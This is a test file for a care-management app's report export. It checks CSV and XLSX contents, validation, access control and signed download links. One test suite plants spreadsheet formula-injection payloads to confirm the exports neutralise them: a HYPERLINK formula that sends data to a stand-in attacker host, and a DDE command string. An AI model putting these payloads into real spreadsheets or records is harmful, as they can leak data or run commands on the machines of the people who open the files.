import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoSeeders } from '../../src/demo.ts';
// Periods of 2026: the CLR layout version (rtf-clr-2025-07) by default.
import { OTF_COLUMNS, PRTF_CLR_COLUMNS as PRTF_COLUMNS } from '../../src/ecm/prtf/columns.ts';
import { insertTextMessage } from '../../src/ecm/communications/store.ts';
import { runDemoSeeders } from '../../src/platform/demo.ts';
import { createDownloadSigner } from '../../src/platform/storage.ts';
import { call, createTestContext, createUser, type TestContext, type TestUser } from '../support/app.ts';

let t: TestContext;
let demo: { admin: { token: string }; coordinator: { token: string }; ids: number[] };
let admin: TestUser;
let coord: TestUser;
let memberId: number;

const day = (offsetDays: number) => new Date(Date.now() + offsetDays * 86_400_000).toISOString().slice(0, 10);

async function download(url: string) {
  const u = new URL(url);
  return t.app.inject({ method: 'GET', url: u.pathname + u.search });
}

beforeAll(async () => {
  t = await createTestContext({ PUBLIC_URL: 'https://care.example.com' });
  const out = await runDemoSeeders(demoSeeders, t.database.db, t.services, t.config);
  demo = { admin: { token: out.admin_token as string }, coordinator: { token: out.coordinator_token as string }, ids: out.patient_ids as number[] };

  // A clinic of our own, with one member whose every cell we know.
  admin = await createUser(t.services, 'Report Clinic', 'admin', 'Rita Admin');
  coord = await createUser(t.services, 'Report Clinic', 'care_coordinator', 'Lena Lead', '+18055550177');
  await call(t.app, admin, 'PUT', '/v1/admin/organization', {
    organization: { npi: '1234567890', tin: '95-4567890', phone: '(805) 555-0100', mcp_id: 'MCP-9', mcp_name: 'Gold Coast Plan', time_zone: 'America/Los_Angeles' },
  });
  memberId = (await call(t.app, admin, 'POST', '/v1/admin/clinic/ecm/patients', {
    patient: {
      first_name: 'Ana, "Annie"', last_name: 'Lopez', phone: '805-555-0123', address: { street: '1 Main St, Apt 2', city: 'Oxnard', state: 'CA', zip: '93030' },
      ecm_eligibility_information: { member_id: 'MEM-77', ecm_npi: '1234567890', ecm_benefit_auth_eff_date: '2026-01-01', ecm_benefit_auth_end_date: '2026-12-31', acuity_level: 'high' },
      case_load: { ilcm_user_id: coord.id },
    },
  })).json().patient.id;
  const act = (activity: Record<string, unknown>) =>
    call(t.app, coord, 'POST', `/v1/clinic/ecm/patients/${memberId}/activities`, { activity: { assigned_to_id: coord.id, ...activity } });
  await act({ activity_type: 'in_person_appointment', booked_at: '2026-10-05T17:00:00.000Z', status: 'complete', duration: 50 });
  await act({ activity_type: 'meeting', booked_at: '2026-10-06T17:00:00.000Z', modality: 'video', status: 'complete', duration: 30 });
  await act({ activity_type: 'in_person_appointment', booked_at: '2026-10-07T17:00:00.000Z', status: 'complete', outcome: 'no_show' });
  await act({ activity_type: 'call', outcome: 'not_reached', duration: 2, occurred_at: '2026-10-08T17:00:00.000Z' });
  const out1 = await insertTextMessage(t.database.db, { organizationId: admin.organizationId, patientId: memberId, direction: 'outbound', fromNumber: '+18055550100', toNumber: '+18055550123', body: 'Hi', status: 'delivered', createdAt: new Date('2026-10-09T17:00:00.000Z') });
  await act({ activity_type: 'sms', body: 'Hi', text_message_id: out1.id, status: 'complete', occurred_at: '2026-10-09T17:00:00.000Z', duration: 1 });
  await insertTextMessage(t.database.db, { organizationId: admin.organizationId, patientId: memberId, direction: 'inbound', fromNumber: '+18055550123', toNumber: '+18055550100', body: 'Thanks!', status: 'received', createdAt: new Date('2026-10-10T09:00:00.000Z') });
  await act({ activity_type: 'task', message: 'Paperwork', occurred_at: '2026-10-11T17:00:00.000Z' });
  await act({ activity_type: 'call', outcome: 'reached', duration: 9, occurred_at: '2026-09-30T17:00:00.000Z' }); // before the period
});
afterAll(() => t.close());

describe('POST /v1/admin/clinic/ecm/prtf_reports', () => {
  it('writes one row per member whose four counts equal the events counts of the member and period (demo clinic)', async () => {
    const start = day(-90);
    const end = day(0);
    const res = await call(t.app, demo.admin, 'POST', '/v1/admin/clinic/ecm/prtf_reports', { start_date: start, end_date: end });
    expect(res.statusCode, res.body).toBe(201);
    const { message, prtf_report: report } = res.json();
    expect(message).toBe('PRTF report generated successfully');
    const [y, m] = start.split('-');
    expect(report.filename).toMatch(new RegExp(`^PRTF_1234567890_${m}${y}_\\d{8}\\.csv$`));
    expect(report).toMatchObject({ start_date: start, end_date: end, provider_npi: null, format: 'csv' });
    expect(report.url).toMatch(/^https:\/\/care\.example\.com\/v1\/downloads\/[\w-]+\?expires=\d+&signature=[0-9a-f]{64}$/);

    const file = await download(report.url);
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toMatch(/text\/csv/);
    expect(file.headers['content-disposition']).toContain(report.filename);
    const rows: string[][] = parse(file.body);
    expect(rows[0]).toEqual([...PRTF_COLUMNS]);
    expect(rows.length - 1).toBe(report.patient_count);
    expect(report.patient_count).toBeGreaterThan(150);
    const col = (name: string) => PRTF_COLUMNS.indexOf(name as (typeof PRTF_COLUMNS)[number]);
    const byCin = new Map(rows.slice(1).map((r) => [r[col('Member Client Index Number (CIN)')], r]));
    let checked = 0;
    for (const id of demo.ids) {
      const p = (await call(t.app, demo.admin, 'GET', `/v1/admin/clinic/ecm/patients/${id}`)).json().patient;
      const row = byCin.get(p.ecm_eligibility_information.cin);
      if (!row) continue;
      const c = (await call(t.app, demo.admin, 'GET', `/v1/clinic/ecm/patients/${id}/events/counts?start_date=${start}&end_date=${end}`)).json().counts.prtf_categories;
      expect([row[col('In-Person Encounters')], row[col('Telehealth Encounters')], row[col('In-Person Outreach')], row[col('Telehealth Outreach')]].map(Number), `patient ${id}`)
        .toEqual([c.in_person_encounters, c.telehealth_encounters, c.in_person_outreach, c.telehealth_outreach]);
      expect(Number(row[col('In Person')])).toBe(c.in_person_encounters);
      expect(Number(row[col('Telephonic/Video')])).toBe(c.telehealth_encounters);
      checked++;
    }
    expect(checked).toBe(report.patient_count);
  });

  it('fills every cell it holds for a known member, with proper CSV quoting and MM/DD/YYYY dates', async () => {
    const res = await call(t.app, admin, 'POST', '/v1/admin/clinic/ecm/prtf_reports', {
      start_date: '2026-10-01', end_date: '2026-10-31', provider_name: 'Report Clinic ECM', provider_phone: '+18055550199',
    });
    expect(res.statusCode, res.body).toBe(201);
    const report = res.json().prtf_report;
    expect(report.filename).toMatch(/^PRTF_1234567890_102026_\d{8}\.csv$/);
    const rows: string[][] = parse((await download(report.url)).body);
    expect(rows).toHaveLength(2);
    const cell = Object.fromEntries(PRTF_COLUMNS.map((c, i) => [c, rows[1][i]]));
    expect(cell).toMatchObject({
      'Primary Payer (MCP) Identifier': 'MCP-9',
      'MCP Name': 'Gold Coast Plan',
      'Member Client Index Number (CIN)': 'MEM-77',
      'Member Last Name': 'Lopez',
      'Member First Name': 'Ana, "Annie"',
      'Member New Address Indicator': 'N', // no earlier submitted report for the plan
      'Member Homelessness Indicator': '',
      'Member Residential Address': '1 Main St, Apt 2',
      'Member Residential City': 'Oxnard',
      'Member Residential State': 'CA',
      'Member Residential Zip': '93030',
      'Member Phone Number': '805-555-0123',
      'Member ECM Status': 'New Member',
      'Member Acuity Level': 'High',
      'ECM Enrollment Start Date': '01/01/2026',
      'ECM Enrollment End Date': '12/31/2026',
      'Date of Latest Care Plan Revision': '',
      'Date of Most Recent Encounter with Member': '10/06/2026',
      'ECM Lead Care Manager Name': 'Lena Lead',
      'ECM Lead Care Manager Phone Number': '805-555-0177',
      'ECM Lead Care Manager Email': coord.email,
      'Discontinuation Date': '',
      'In Person': '1',
      'Telephonic/Video': '1',
      'Member Information File Reporting Period': '10/01/2026 - 10/31/2026',
      'ECM Provider Name': 'Report Clinic ECM',
      'ECM Provider National Provider Identifier (NPI)': '1234567890',
      'ECM Provider Tax ID Number (TIN)': '95-4567890',
      'ECM Provider Phone Number': '805-555-0199',
      'In-Person Encounters': '1',
      'Telehealth Encounters': '1',
      'In-Person Outreach': '1',
      'Telehealth Outreach': '2',
    });
    expect(cell['Member Information Return Transmission File Production Date']).toMatch(/^\d\d\/\d\d\/\d{4}$/);
  });

  it('writes an XLSX RTF workbook and its Outreach Tracker File as its own XLSX file (outreach attempts only)', async () => {
    const res = await call(t.app, admin, 'POST', '/v1/admin/clinic/ecm/prtf_reports', { start_date: '2026-10-01', end_date: '2026-10-31', format: 'xlsx' });
    expect(res.statusCode, res.body).toBe(201);
    const report = res.json().prtf_report;
    expect(report.filename).toMatch(/\.xlsx$/);
    expect(report.otf_filename).toMatch(/^OTF_1234567890_102026_\d{8}\.xlsx$/);
    const file = await t.app.inject({ method: 'GET', url: new URL(report.url).pathname + new URL(report.url).search });
    expect(file.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(file.rawPayload as unknown as ArrayBuffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['RTF']);
    const rtf = wb.getWorksheet('RTF')!;
    expect((rtf.getRow(1).values as unknown[]).slice(1)).toEqual([...PRTF_COLUMNS]);
    expect(rtf.rowCount).toBe(2);
    const otfFile = await t.app.inject({ method: 'GET', url: new URL(report.otf_url).pathname + new URL(report.otf_url).search });
    const otf = new ExcelJS.Workbook();
    await otf.xlsx.load(otfFile.rawPayload as unknown as ArrayBuffer);
    const tracker = otf.getWorksheet('Outreach Tracker')!;
    const rows = [];
    for (let i = 2; i <= tracker.rowCount; i++) rows.push((tracker.getRow(i).values as unknown[]).slice(10, 14));
    expect(rows).toEqual([
      ['10/07/2026', 'In-person', 'N'], // no duration: the trailing cell is empty
      ['10/08/2026', 'Phone call', 'N', 2],
      ['10/09/2026', 'Text', 'Y', 1], // the member replied within 72 hours
    ]);
  });

  it('filters members by provider_npi', async () => {
    const res = await call(t.app, admin, 'POST', '/v1/admin/clinic/ecm/prtf_reports', { start_date: '2026-10-01', end_date: '2026-10-31', provider_npi: '9999999999' });
    expect(res.json().prtf_report).toMatchObject({ patient_count: 0, provider_npi: '9999999999' });
    expect(res.json().prtf_report.filename).toMatch(/^PRTF_9999999999_102026_/);
  });

  it('answers 422 for missing or reversed dates and a malformed NPI; 403 for coordinators', async () => {
    const bad = await call(t.app, admin, 'POST', '/v1/admin/clinic/ecm/prtf_reports', { provider_npi: '12' });
    expect(bad.statusCode).toBe(422);
    expect(bad.json()).toEqual({ errors: ["Start date can't be blank", "End date can't be blank", 'Provider NPI must be 10 digits'] });
    const reversed = await call(t.app, admin, 'POST', '/v1/admin/clinic/ecm/prtf_reports', { start_date: '2026-10-31', end_date: '2026-10-01' });
    expect(reversed.json()).toEqual({ errors: ['End date must be on or after the start date'] });
    const malformed = await call(t.app, admin, 'POST', '/v1/admin/clinic/ecm/prtf_reports', { start_date: '10/01/2026', end_date: '2026-10-31' });
    expect(malformed.json()).toEqual({ errors: ['Start date must be a valid date (YYYY-MM-DD)'] });
    expect((await call(t.app, coord, 'POST', '/v1/admin/clinic/ecm/prtf_reports', { start_date: '2026-10-01', end_date: '2026-10-31' })).statusCode).toBe(403);
  });
});

describe('cells that spreadsheets would run as formulas', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Click")';

  it('neutralises them in the CSV and keeps them as typed text in the XLSX', async () => {
    const owner = await createUser(t.services, 'Formula Clinic', 'admin', 'Fay Admin');
    await call(t.app, owner, 'PUT', '/v1/admin/organization', { organization: { npi: '1112223334' } });
    const created = await call(t.app, owner, 'POST', '/v1/admin/clinic/ecm/patients', {
      patient: {
        first_name: '@SUM(A1)', last_name: HYPERLINK, phone: '+44 20 7946 0958', address: { street: "-cmd|' /C calc'!A0", city: 'Oxnard' },
        ecm_eligibility_information: { member_id: 'FX-1', ecm_benefit_auth_eff_date: '2026-01-01' },
      },
    });
    expect(created.statusCode, created.body).toBe(201);
    const period = { start_date: '2026-10-01', end_date: '2026-10-31' };
    const attempt = await call(t.app, owner, 'POST', `/v1/clinic/ecm/patients/${created.json().patient.id}/activities`, {
      activity: { activity_type: 'call', assigned_to_id: owner.id, outcome: 'not_reached', duration: 3, occurred_at: '2026-10-08T17:00:00.000Z' },
    });
    expect(attempt.statusCode, attempt.body).toBe(201);

    const csv = (await call(t.app, owner, 'POST', '/v1/admin/clinic/ecm/prtf_reports', period)).json().prtf_report;
    const rows: string[][] = parse((await download(csv.url)).body);
    expect(rows).toHaveLength(2);
    const cell = Object.fromEntries(PRTF_COLUMNS.map((c, i) => [c, rows[1][i]]));
    expect(cell).toMatchObject({
      'Member Last Name': `'${HYPERLINK}`,
      'Member First Name': "'@SUM(A1)",
      'Member Residential Address': "'-cmd|' /C calc'!A0",
      'Member Phone Number': '+442079460958', // a phone number, kept for the plans' machines
      'Member Residential City': 'Oxnard',
    });
    // The OTF, which PostgreSQL writes (COPY), neutralises the same cells the same way.
    const otf: string[][] = parse((await download(csv.otf_url)).body);
    expect(otf).toHaveLength(2);
    const attemptCells = Object.fromEntries(OTF_COLUMNS.map((c, i) => [c, otf[1][i]]));
    expect(attemptCells).toMatchObject({
      'Member Last Name': `'${HYPERLINK}`, 'Member First Name': "'@SUM(A1)", 'Outreach Attempt Method': 'Phone call', 'Time Spent Performing Outreach (Minutes)': '3',
    });

    const xlsx = (await call(t.app, owner, 'POST', '/v1/admin/clinic/ecm/prtf_reports', { ...period, format: 'xlsx' })).json().prtf_report;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await download(xlsx.url)).rawPayload as unknown as ArrayBuffer);
    const row = wb.getWorksheet('RTF')!.getRow(2);
    const last = row.getCell(PRTF_COLUMNS.indexOf('Member Last Name') + 1);
    expect(last.type).toBe(ExcelJS.ValueType.String);
    expect(last.value).toBe(HYPERLINK);
    expect(last.formula).toBeUndefined();
    expect(row.getCell(PRTF_COLUMNS.indexOf('Member First Name') + 1).value).toBe('@SUM(A1)');
  });
});

describe('listing, fresh URLs and signed downloads', () => {
  it('lists reports newest first and gives a fresh URL per read; never another clinic\'s', async () => {
    const list = (await call(t.app, admin, 'GET', '/v1/admin/clinic/ecm/prtf_reports')).json();
    expect(list.prtf_reports.length).toBeGreaterThanOrEqual(3);
    const first = list.prtf_reports[0];
    const again = (await call(t.app, admin, 'GET', `/v1/admin/clinic/ecm/prtf_reports/${first.id}`)).json().prtf_report;
    expect(again.id).toBe(first.id);
    expect((await download(again.url)).statusCode).toBe(200);
    const foreign = await call(t.app, demo.admin, 'GET', `/v1/admin/clinic/ecm/prtf_reports/${first.id}`);
    expect(foreign.statusCode).toBe(404);
    expect(foreign.json()).toEqual({ errors: ['PRTF report not found'] });
  });

  it('refuses tampered, expired and unknown links with the same 403', async () => {
    const report = (await call(t.app, admin, 'GET', '/v1/admin/clinic/ecm/prtf_reports')).json().prtf_reports[0];
    const u = new URL(report.url);
    const publicId = u.pathname.split('/').pop()!;
    const sig = u.searchParams.get('signature')!;
    const tampered = [
      `${u.pathname}?expires=${u.searchParams.get('expires')}&signature=${sig.replace(/^./, sig[0] === 'a' ? 'b' : 'a')}`,
      `${u.pathname}?expires=${Number(u.searchParams.get('expires')) + 3600}&signature=${sig}`,
      `/v1/downloads/${publicId}x?${u.searchParams}`,
    ];
    const signer = createDownloadSigner({ db: t.database.db, publicUrl: '' });
    tampered.push(await signer.url(publicId, new Date(Date.now() - 1000)));
    for (const url of tampered) {
      const res = await t.app.inject({ method: 'GET', url });
      expect(res.statusCode, url).toBe(403);
      expect(res.json()).toEqual({ errors: ['Invalid or expired download link'] });
    }
  });
});
